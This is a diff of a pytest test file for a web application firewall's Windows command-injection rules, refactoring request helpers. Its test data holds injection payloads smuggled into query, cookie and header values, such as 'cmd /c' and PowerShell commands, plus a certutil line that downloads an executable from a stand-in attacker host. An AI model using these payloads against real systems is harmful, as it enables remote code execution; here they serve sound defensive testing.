@@ -2,54 +2,30 @@
 
 from __future__ import annotations
 
-import json
 from urllib.parse import quote
 
 import pytest
 
-from airlock_filters import Engine, Request, default_policy
+from airlock_filters import Request
+
+from . import requests as build
+from .requests import (
+    assert_blocked,
+    cookie,
+    form,
+    get,
+    header,
+    json_body,
+    matched_keys,
+    rule_ids,
+    upload,
+)
 
 KEY = "WINCMD"
-HOST = ("Host", "shop.example.com")
-ENGINES = {level: Engine(default_policy(level)) for level in ("Basic", "Standard", "Strict")}
-RE2_STANDARD = Engine(default_policy("Standard"), implementation="re2")
 
 
 def query(value: str, name: str = "file") -> Request:
-    return Request("GET", f"/download?{quote(name)}={quote(value)}", headers=[HOST])
-
-
-def form(value: str, name: str = "comment") -> Request:
-    body = f"{quote(name)}={quote(value)}".encode()
-    headers = [HOST, ("Content-Type", "application/x-www-form-urlencoded")]
-    return Request("POST", "/comments", headers=headers, body=body)
-
-
-def json_body(document: object) -> Request:
-    headers = [HOST, ("Content-Type", "application/json")]
-    return Request("POST", "/api/items", headers=headers, body=json.dumps(document).encode())
-
-
-def header(name: str, value: str) -> Request:
-    return Request("GET", "/", headers=[HOST, (name, value)])
-
-
-def cookie(value: str) -> Request:
-    return header("Cookie", f"theme=dark; last={quote(value, safe='')}")
-
-
-def upload(filename: str) -> Request:
-    body = (
-        '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="'
-        + filename
-        + '"\r\nContent-Type: application/octet-stream\r\n\r\nhello\r\n--XyZ--\r\n'
-    ).encode()
-    headers = [HOST, ("Content-Type", "multipart/form-data; boundary=XyZ")]
-    return Request("POST", "/upload", headers=headers, body=body)
-
-
-def keys(request: Request, level: str = "Standard") -> set[str]:
-    return {m.rule_key for m in ENGINES[level].inspect(request).matches}
+    return build.query(value, name, path="/download")
 
 
 ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
@@ -102,7 +78,7 @@ ATTACKS = [
     cookie("x & cmd /c ver"),
     header("User-Agent", "x & powershell -c Get-Process"),
     header("Referer", "https://shop.example.com/?q=x%26cmd%20/c%20dir"),
-    Request("GET", "/download?file=" + quote(quote("x & cmd /c dir")), headers=[HOST]),
+    get("/download?file=" + quote(quote("x & cmd /c dir"))),
 ]
 
 BENIGN = [
@@ -158,36 +134,31 @@ BASIC = [
 
 @pytest.mark.parametrize("request_", ATTACKS)
 def test_attacks_blocked_at_standard(request_: Request) -> None:
-    decision = ENGINES["Standard"].inspect(request_)
-    assert decision.action == "block"
-    assert KEY in {m.rule_key for m in decision.matches}
+    assert_blocked(request_, KEY)
 
 
 @pytest.mark.parametrize("request_", BENIGN)
 def test_look_alikes_pass_at_standard(request_: Request) -> None:
-    assert KEY not in keys(request_)
+    assert KEY not in matched_keys(request_)
 
 
 @pytest.mark.parametrize("request_", STRICT_ONLY)
 def test_strict_only(request_: Request) -> None:
-    assert KEY not in keys(request_, "Standard")
-    assert KEY in keys(request_, "Strict")
+    assert KEY not in matched_keys(request_, "Standard")
+    assert KEY in matched_keys(request_, "Strict")
 
 
 @pytest.mark.parametrize("request_", BASIC)
 def test_blocked_at_basic(request_: Request) -> None:
-    assert KEY in keys(request_, "Basic")
+    assert KEY in matched_keys(request_, "Basic")
 
 
 def test_standard_rules_are_off_at_basic() -> None:
     request = query("x & certutil -urlcache -f http://evil.example/a.exe")
-    assert KEY not in keys(request, "Basic")
-    assert KEY in keys(request, "Standard")
+    assert KEY not in matched_keys(request, "Basic")
+    assert KEY in matched_keys(request, "Standard")
 
 
 @pytest.mark.parametrize("request_", ATTACKS[::3] + BENIGN[::3])
 def test_re2_twin_agrees(request_: Request) -> None:
-    def mine(engine: Engine) -> set[str]:
-        return {m.rule_id for m in engine.inspect(request_).matches if m.rule_key == KEY}
-
-    assert mine(RE2_STANDARD) == mine(ENGINES["Standard"])
+    assert rule_ids(request_, KEY, "re2") == rule_ids(request_, KEY)
